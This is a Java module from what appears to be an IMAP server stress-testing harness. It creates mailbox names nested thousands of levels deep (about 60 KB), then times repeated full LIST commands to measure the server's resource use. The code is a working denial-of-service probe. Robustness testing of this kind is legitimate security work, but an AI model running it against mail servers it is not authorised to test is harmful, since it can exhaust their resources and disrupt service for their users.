package satchel.attack;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

/**
 * Class (b): CREATE of a name nested thousands of levels deep with the server's own hierarchy separator (asked
 * with LIST "" ""), and with the other usual separator, then LIST of everything. Times each command.
 */
record NestedCreate() implements Attack {
    @Override public String name() { return "b-nested-create"; }
    @Override public String what() { return "CREATE a.a.a… / a/a/a… of ~60 KB (thousands of levels), then LIST \"\" \"*\""; }

    @Override public String run(Ctx ctx) throws IOException {
        Wire w = ctx.login(0, 0, 0);
        if (w == null) return "attacker login refused";
        String sep = separator(w);
        List<String> notes = new ArrayList<>();
        int levels = ctx.sizes().nestedBytes() / 2;
        String[] seps = sep.equals("/") ? new String[] {"/", "."} : new String[] {sep, "/"};
        int n = 0;
        for (String s : seps) {
            for (String root : new String[] {"n" + n, "m" + n}) {
                if (!ctx.timeLeft()) break;
                String name = root + (s + "a").repeat(levels);
                long t0 = System.nanoTime();
                String r;
                try {
                    r = w.command("c" + n, "CREATE " + Wire.quote(name));
                } catch (IOException e) {
                    notes.add("CREATE (" + s + ") " + e.getMessage());
                    return String.join("; ", notes);
                }
                notes.add("CREATE " + s + " " + ms(t0) + " ms " + status(r));
                n++;
            }
        }
        for (int i = 0; i < 3 && ctx.timeLeft(); i++) {
            long t0 = System.nanoTime();
            w.send("l" + i + " LIST \"\" \"*\"\r\n");
            long lines = 0;
            long bytes = 0;
            try {
                for (String l = w.line(); !l.startsWith("l" + i + " "); l = w.line()) {
                    lines++;
                    bytes += l.length();
                }
            } catch (IOException e) {
                notes.add("LIST cut: " + e.getMessage());
                break;
            }
            notes.add("LIST " + ms(t0) + " ms " + lines + " lines " + bytes / 1024 + " KB");
        }
        return "separator " + sep + ", " + levels + " levels: " + String.join("; ", notes);
    }

    private static String separator(Wire w) throws IOException {
        w.send("s LIST \"\" \"\"\r\n");
        String sep = ".";
        for (String l = w.line(); !l.startsWith("s "); l = w.line()) {
            var m = java.util.regex.Pattern.compile("^\\* LIST \\([^)]*\\) \"(.)\"").matcher(l);
            if (m.find()) sep = m.group(1);
        }
        return sep;
    }

    static long ms(long t0) {
        return (System.nanoTime() - t0) / 1_000_000;
    }

    static String status(String tagged) {
        String[] f = tagged.split(" ", 3);
        return f.length > 1 ? f[1] + (f.length > 2 && f[2].startsWith("[") ? " " + f[2].substring(0, f[2].indexOf(']') + 1) : "") : tagged;
    }
}
